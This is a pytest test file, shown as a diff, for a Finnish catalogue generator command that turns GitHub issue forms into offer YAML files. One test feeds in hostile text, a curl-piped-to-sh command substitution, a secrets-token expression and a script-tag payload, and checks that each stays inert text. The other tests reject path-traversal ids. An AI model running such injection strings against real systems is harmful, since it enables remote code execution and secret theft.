@@ -1,0 +1,206 @@
+"""`tarjotin from-issue`: recorded issue-form bodies become an offer file, or the list of what to fix."""
+
+from __future__ import annotations
+
+import shutil
+from pathlib import Path
+
+import pytest
+import yaml
+from conftest import OFFER, REPO, Workspace
+
+from generator.cli import main
+from generator.from_issue import FIELDS, FORMS_DIR, IDENTITY, NEW_FORM, NOTE, FormCodes
+from generator.load import Document, load_text
+from generator.models import Offer
+from generator.taxonomy import WHOLE_REGION, Taxonomy
+
+BODIES = Path(__file__).resolve().parent / "issue_forms"
+NEW = "catalogue/esimerkki-ry/aitien-ja-isien-iltapaiva.yml"
+
+
+@pytest.fixture
+def site(workspace: Workspace) -> Workspace:
+    """The small valid catalogue with the real site_config and forms; curator: kuraattori."""
+    shutil.copytree(REPO / "site_config", workspace.root / "site_config")
+    shutil.copytree(REPO / FORMS_DIR, workspace.root / FORMS_DIR)
+    workspace.write("site_config/yllapito.yml", "kuraattorit: [kuraattori]\n")
+    return workspace
+
+
+def submit(site: Workspace, body: str, author: str = "esimerkki-kayttaja") -> tuple[int, str]:
+    """Run from-issue on a recorded body; return its exit code and the message it wrote."""
+    message = site.root.parent / "viesti.md"
+    code = main(
+        [
+            "--root",
+            str(site.root),
+            "from-issue",
+            str(BODIES / body),
+            "--author",
+            author,
+            "--issue",
+            "7",
+            "--message",
+            str(message),
+            "--today",
+            "2026-11-23",
+        ]
+    )
+    return code, message.read_text(encoding="utf-8")
+
+
+def _form(name: str) -> list[dict[str, object]]:
+    definition = yaml.safe_load((REPO / FORMS_DIR / name).read_text(encoding="utf-8"))
+    return [item for item in definition["body"] if item["type"] != "markdown"]
+
+
+@pytest.mark.parametrize("name", ["uusi-tarjonta.yml", "paivita-tarjontaa.yml"])
+def test_form_fields_mirror_the_data_model_and_the_taxonomy(name: str, taxonomy: Taxonomy) -> None:
+    keys = {field.alias for field in Offer.model_fields.values()}
+    for item in _form(name):
+        field_id = str(item["id"])
+        assert field_id in FIELDS or field_id in (*IDENTITY, NOTE), f"{name}: {field_id} goes nowhere"
+        if field_id not in FIELDS:
+            continue
+        where, read = FIELDS[field_id]
+        assert where[0] in keys, f"{field_id} writes {where[0]}, which the data model lacks"
+        if isinstance(read, FormCodes):
+            options = item["attributes"]["options"]  # type: ignore[index]
+            labels = [term.fi for code, term in taxonomy.codes(read.code_list).items() if code != WHOLE_REGION]
+            whole = taxonomy.municipalities[WHOLE_REGION].fi
+            assert [option for option in options if option != whole] == labels, f"{name}: {field_id} options"
+            assert all(", " not in option for option in options)  # GitHub joins the choices with ", "
+
+
+def test_the_new_form_asks_for_every_required_field() -> None:
+    required = {field.alias for field in Offer.model_fields.values() if field.is_required()}
+    asked = {
+        FIELDS[str(item["id"])][0][0]
+        for item in _form(NEW_FORM)
+        if item.get("validations", {}).get("required") and item["id"] in FIELDS  # type: ignore[union-attr]
+    }
+    assert required - {"tarkistettu"} == asked
+
+
+def test_a_complete_new_form_gives_the_commented_file(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
+    code, message = submit(site, "uusi_taydellinen.md")
+    assert code == 0
+    assert capsys.readouterr().out == f"Kirjoitettu {NEW}\n"
+    assert site.read(NEW) == (BODIES / "uusi_taydellinen.yml").read_text(encoding="utf-8")
+    assert message.startswith(f"Tämä muutos on tehty lomakkeesta #7: `{NEW}`.\n")
+    assert message.endswith("\n\nCloses #7\n")
+    assert main(["--root", str(site.root), "validate", "--today", "2026-11-23", "--format", "text"]) == 0
+
+
+def test_mistakes_are_listed_at_their_form_fields_and_nothing_is_written(
+    site: Workspace, capsys: pytest.CaptureFixture[str]
+) -> None:
+    code, message = submit(site, "uusi_virheellinen.md")
+    assert code == 1
+    expected = [
+        "Yläikäraja: yläikäraja 12 on pienempi kuin alaikäraja 18 — vaihda luvut keskenään",
+        "Kunnat: 'kunnat': tuntematon koodi 'Porvoo' — sallitut arvot: "
+        "hyvinkaa, jarvenpaa, mantsala, nurmijarvi, pornainen, tuusula, koko-alue",
+        "Postinumero: 'postinumero' pitää olla viisi numeroa, nyt '4300' — kirjoita esim. \"04300\"",
+        "Alkaa klo: 'alkaa' pitää olla muotoa HH:MM, nyt '930' — kirjoita esim. \"09:30\"",
+        "Sähköposti: 'sahkoposti' ei ole kelvollinen sähköpostiosoite: 'perhetalo(at)example.fi' "
+        "— kirjoita muotoa nimi@example.fi",
+    ]
+    assert capsys.readouterr().out.splitlines() == expected
+    assert not (site.root / NEW).exists()
+    assert message.splitlines()[2:] == ["```text", *expected, "```"]
+
+
+def test_hostile_text_stays_text_in_its_own_field(site: Workspace) -> None:
+    code, message = submit(site, "uusi_vihamielinen.md")  # CRLF line ends, as from a browser
+    assert code == 0, message
+    document = load_text("x.yml", site.read("catalogue/esimerkki-ry/vihamielinen.yml"))
+    assert isinstance(document, Document)
+    data = document.data
+    assert data["nimi"] == "$(curl http://example.fi/x | sh) `id` ${{ secrets.TOKEN }}"
+    assert data["lyhyesti"] == "<script>alert(1)</script> \"lainaus\" 'heittomerkki' #risuaita: kaksoispiste"
+    assert data["kuvaus"].startswith("Tapaamme kerran viikossa.\nteemat: [vammaisuus]\n---\n```\n@kaikki\n### Hinta\n")
+    assert data["teemat"] == ["lapsiperheet", "mielenterveys-ja-paihteet"]
+    assert data["hinta"] == "maksuton"
+
+
+def test_ids_that_leave_the_catalogue_are_refused(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
+    before = sorted(site.root.rglob("*"))
+    assert submit(site, "uusi_polku_ulos.md")[0] == 1
+    hint = "käytä vain pieniä kirjaimia a–z, numeroita ja väliviivoja, esim. omaisten-ryhma"
+    assert capsys.readouterr().out.splitlines() == [
+        f"Järjestön tunnus: '../../.github' ei kelpaa tunnukseksi — {hint}",
+        f"Uuden tarjonnan tunnus: 'workflows/x' ei kelpaa tunnukseksi — {hint}",
+    ]
+    assert sorted(site.root.rglob("*")) == before
+
+
+def test_the_author_must_maintain_the_organisation(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
+    assert submit(site, "uusi_taydellinen.md", author="vieras")[0] == 1
+    assert capsys.readouterr().out.startswith(
+        "Järjestön tunnus: @vieras ei ole järjestön 'esimerkki-ry' ylläpitäjä eikä kuraattori"
+    )
+    assert submit(site, "uusi_taydellinen.md", author="kuraattori")[0] == 0
+
+
+def test_a_new_offer_never_replaces_one(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
+    site.write(NEW, site.read(OFFER))
+    assert submit(site, "uusi_taydellinen.md")[0] == 1
+    assert capsys.readouterr().out == (
+        "Uuden tarjonnan tunnus: tunnus 'aitien-ja-isien-iltapaiva' on jo käytössä — valitse toinen tunnus\n"
+    )
+    assert site.read(NEW) == site.read(OFFER)
+
+
+def test_an_update_changes_only_the_answered_fields(site: Workspace) -> None:
+    before = site.read(OFFER).splitlines()
+    code, message = submit(site, "paivitys.md")
+    assert code == 0
+    after = site.read(OFFER).splitlines()
+    removed = [line for line in before if line not in after]
+    added = [line for line in after if line not in before and line]
+    assert removed == [
+        "hinta: maksuton",
+        "    osoite: Esimerkkikatu 1",
+        "    sijainti: {lat: 60.40, lon: 25.03}",
+        '    alkaa: "17:30"',
+        "    voimassa: {alkaen: 2026-08-18, asti: 2027-05-25}",
+        "tarkistettu: 2026-11-01",
+    ]
+    assert added == [
+        "hinta:",
+        "  maksu: 3 € / kerta",
+        "    osoite: Uusitie 2",
+        "    sijainti:",
+        "      lat: 60.4",
+        "      lon: 25.03",
+        '    alkaa: "18:00"',
+        "    voimassa:",
+        "      alkaen: 2026-08-18",
+        "      asti: 2027-05-25",
+        "tila: tauolla",
+        "verkossa: true",
+        "tarkistettu: 2026-11-23",
+    ]
+    # The note for the curator reaches the pull request as plain text, not as Markdown or HTML.
+    assert "```text\nRyhmä pitää joulutauon. Uusi osoite on `Uusitie 2` <b>heti</b>.\n```" in message
+    assert main(["--root", str(site.root), "validate", "--today", "2026-11-23", "--format", "text"]) == 0
+
+
+def test_an_update_of_a_missing_offer_is_refused(site: Workspace, capsys: pytest.CaptureFixture[str]) -> None:
+    site.root.joinpath(OFFER).unlink()
+    assert submit(site, "paivitys.md")[0] == 1
+    assert capsys.readouterr().out == (
+        "Päivitettävän tarjonnan tunnus: tarjontaa catalogue/esimerkki-ry/vertaisryhma.yml ei ole\n"
+    )
+
+
+def test_an_issue_that_is_no_form_gets_a_comment_saying_so(site: Workspace, tmp_path: Path) -> None:
+    body = BODIES / "uusi_taydellinen.md"
+    other = tmp_path / "muu.md"
+    other.write_text(body.read_text(encoding="utf-8").replace("### Hinta", "### Kustannukset"), encoding="utf-8")
+    message = tmp_path / "viesti.md"
+    args = ["--root", str(site.root), "from-issue", str(other), "--author", "a", "--issue", "3", "--message"]
+    assert main([*args, str(message)]) == 1
+    assert "lomake: tiketti ei ole tarjonnan lomake" in message.read_text(encoding="utf-8")
